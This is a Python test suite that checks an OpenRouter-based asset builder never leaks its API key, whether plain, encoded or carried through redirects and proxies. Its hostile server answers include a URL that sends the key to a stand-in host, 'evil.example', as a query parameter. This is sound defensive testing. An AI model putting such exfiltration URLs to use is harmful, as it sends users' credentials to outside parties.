"""Strangers: the API key is in no file, message, event or argument, whatever an answer repeats.

After each build every byte that it wrote and said is searched: project, cache, home and temporary
folder, both streams, and the requests to anybody but the service.
"""

from __future__ import annotations

import base64
import re
import socket
import threading
from contextlib import contextmanager
from typing import TYPE_CHECKING

import pytest

from assetgen.providers.openrouter.secret import Secret
from tests.attacks.bench import is_for
from tests.attacks.support import manifest
from tests.standin import (
    Answer,
    BadBase64,
    BrokenImage,
    ErrorBody,
    ErrorInside200,
    HttpUrlImage,
    Image,
    MalformedJson,
    OpenRouterStandIn,
    RawBody,
    Redirect,
    Refusal,
    Text,
    Unauthorized,
)

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from tests.conftest import Cli, Completed, Project

KEY = "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"
ENCODED = {
    "base64": base64.b64encode(KEY.encode()).decode(),
    "base64 of the header": base64.b64encode(f"Bearer {KEY}".encode()).decode(),
    "base64 of a login": base64.b64encode(f"x:{KEY}".encode()).decode(),
    "hexadecimal": KEY.encode().hex(),
    "percent signs": "".join(f"%{byte:02X}" for byte in KEY.encode()),
    "escapes": "".join(f"\\u{byte:04x}" for byte in KEY.encode()),
    "backwards": KEY[::-1],
}
TELLTALE = 12
"""So many characters in a row give the key away: see `Secret`."""


def parts_of(key: str) -> set[bytes]:
    """Every stretch of the key, or of an encoding of it, that must appear nowhere."""
    forms = [key, *ENCODED.values()]
    whole = {form[i : i + 3 * TELLTALE] for form in forms for i in range(0, len(form), TELLTALE)}
    return {part.encode() for part in whole if len(part) == 3 * TELLTALE}


PARTS = re.compile(b"|".join(map(re.escape, sorted(parts_of(KEY)))))


def search(result: Completed, *folders: Path) -> None:
    """Fail where the key is in what was said or written."""
    assert PARTS.search(result.out.encode()) is None
    assert PARTS.search(result.err.encode()) is None
    looked_at = 0
    for folder in folders:
        for path in folder.rglob("*"):
            assert PARTS.search(str(path).encode()) is None
            if path.is_file() and not path.is_symlink():
                assert PARTS.search(path.read_bytes()) is None, path
                looked_at += 1
    assert looked_at


@pytest.fixture
def openrouter() -> Iterator[OpenRouterStandIn]:
    with OpenRouterStandIn(api_key=KEY) as server:
        yield server


def said(secret: str) -> list[Answer]:
    """Answers that repeat `secret` wherever an answer can hold words."""
    padded = f"{'x' * 470} {secret}"  # cut in its middle by the bound on foreign words
    raw = f'{{"error":{{"message":"no: {secret}"}}}}'
    return [
        Image(provider=secret, model=f"evil/{secret}", content=secret, count=2),
        Image(provider=f"{'p' * 170}{secret}"),
        Text(f"your key is {secret}"),
        Text(padded),
        Refusal(padded),
        ErrorBody(400, f"Authorization: Bearer {secret}"),
        ErrorBody(403, "Provider returned error", {"provider_name": secret, "raw": raw}),
        ErrorBody(400, "x", {"reasons": [secret], "flagged_input": secret, "remedy_hint": secret}),
        ErrorInside200(400, f"key {secret}"),
        RawBody(f"<html><title>{secret}</title>".encode(), 400),
        RawBody(secret.encode(), 200),
        HttpUrlImage(f"https://evil.example/?k={secret}"),
    ]


SIMPLE: dict[str, list[Answer]] = {
    "the key is refused": [Unauthorized()],
    "images, some broken": [Image(), BadBase64(), BrokenImage("truncated"), MalformedJson()],
}


def lines_of(answers: list[Answer]) -> tuple[str, list[str]]:
    names = [f"a{number:02}" for number in range(len(answers))]
    return manifest(*names), names


def build_each(
    project: Project, cli: Cli, openrouter: OpenRouterStandIn, answers: list[Answer], *how: str
) -> Completed:
    """One build in which every asset gets an answer of its own, also when asked again."""
    text, names = lines_of(answers)
    project.write("assets.yaml", text)
    for name, answer in zip(names, answers, strict=True):
        openrouter.script_for(is_for(name), *[answer] * 9)
    temporary = project.root.parent / "tmp"
    temporary.mkdir(exist_ok=True)
    env = {"OPENROUTER_API_KEY": KEY, "TMPDIR": str(temporary)}
    result = cli("--verbose", "build", *how, env=env)
    assert "Traceback" not in result.err, result.err
    assert result.code in {0, 1}
    return result


@pytest.mark.parametrize(
    "how", [(), pytest.param(("--json",), marks=pytest.mark.slow)], ids=["plain", "JSON"]
)
def test_an_answer_that_repeats_the_key_takes_it_nowhere(
    project: Project, cli: Cli, openrouter: OpenRouterStandIn, how: tuple[str, ...]
) -> None:
    result = build_each(project, cli, openrouter, said(KEY), *how)
    assert "…" in result.err + result.out or "\\u2026" in result.out
    assert project.path("art/a00.png").exists()
    search(result, project.root.parent)


@pytest.mark.slow
def test_an_answer_that_repeats_the_key_encoded_takes_it_nowhere(
    project: Project, cli: Cli, openrouter: OpenRouterStandIn
) -> None:
    answers = [answer for secret in ENCODED.values() for answer in said(secret)[:6]]
    result = build_each(project, cli, openrouter, answers)
    assert project.path("art/a00.png").exists()
    search(result, project.root.parent)


@pytest.mark.slow
@pytest.mark.parametrize("answers", SIMPLE.values(), ids=SIMPLE)
def test_no_ending_of_a_build_says_or_writes_the_key(
    project: Project, cli: Cli, openrouter: OpenRouterStandIn, answers: list[Answer]
) -> None:
    search(build_each(project, cli, openrouter, answers), project.root.parent)


def test_a_redirect_to_another_host_takes_no_key_along(
    project: Project, cli: Cli, openrouter: OpenRouterStandIn
) -> None:
    with listening() as (address, heard):
        target = f"http://{address}/{KEY}"
        result = build_each(project, cli, openrouter, [Redirect(target)])
    assert result.code == 1
    assert heard == []
    search(result, project.root.parent)


def test_a_proxys_password_is_said_nowhere(
    project: Project, cli: Cli, openrouter: OpenRouterStandIn
) -> None:
    del openrouter
    project.write("assets.yaml", manifest("hero"))
    password = "proxy-password-7f3a9c55"  # noqa: S105 - of a proxy that is not there
    for proxy in (f"http://user:{password}@127.0.0.1:9", f"ftp://user:{password}@[::bad"):
        env = {
            "OPENROUTER_API_KEY": KEY,
            "HTTP_PROXY": proxy,
            "ALL_PROXY": proxy,
            "OPENROUTER_BASE_URL": "http://openrouter.invalid/api/v1",
        }
        result = cli("--verbose", "build", "--timeout", "1", env=env)
        assert result.code in {1, 2}, result.err
        assert password not in result.err + result.out
        search(result, project.root.parent)


@pytest.mark.slow
def test_a_password_in_the_address_of_the_service_is_said_nowhere(
    project: Project, cli: Cli, openrouter: OpenRouterStandIn
) -> None:
    project.write("assets.yaml", manifest("hero"))
    host = openrouter.base_url.partition("://")[2]
    for url in (f"http://user:pass-7f3a9c55@{host}x", "http://user:pass-7f3a9c55@[::bad/v1"):
        result = cli(
            "--verbose", "build", env={"OPENROUTER_API_KEY": KEY, "OPENROUTER_BASE_URL": url}
        )
        assert result.code in {1, 2}
        assert "pass-7f3a9c55" not in result.err + result.out


@pytest.mark.parametrize("before", ["", "a", "ab", "Bearer ", "user:"])
@pytest.mark.parametrize("after", ["", "z", "zz"])
def test_the_key_is_found_at_every_alignment_of_base64(before: str, after: str) -> None:
    for encode in (base64.b64encode, base64.urlsafe_b64encode):
        text = encode(f"{before}{KEY}{after}".encode()).decode()
        assert len(Secret(KEY).blot(text)) < len(text) - len(KEY)


def test_ordinary_words_are_left_alone() -> None:
    for text in ("the sky over sk-or-v1 is blue", "a" * 500, "", "7f3a9c5"):
        assert Secret(KEY).blot(text) == text
    assert repr(Secret(KEY)) == "Secret()"


@contextmanager
def listening() -> Iterator[tuple[str, list[bytes]]]:
    """A host that nobody should talk to, and what it was told."""
    heard: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.05)
        done = threading.Event()

        def listen() -> None:
            while not done.is_set():
                try:
                    connection, _ = server.accept()
                except TimeoutError:
                    continue
                with connection:
                    heard.append(connection.recv(65536))

        thread = threading.Thread(target=listen)
        thread.start()
        try:
            host, port = server.getsockname()
            yield f"{host}:{port}", heard
        finally:
            done.set()
            thread.join()
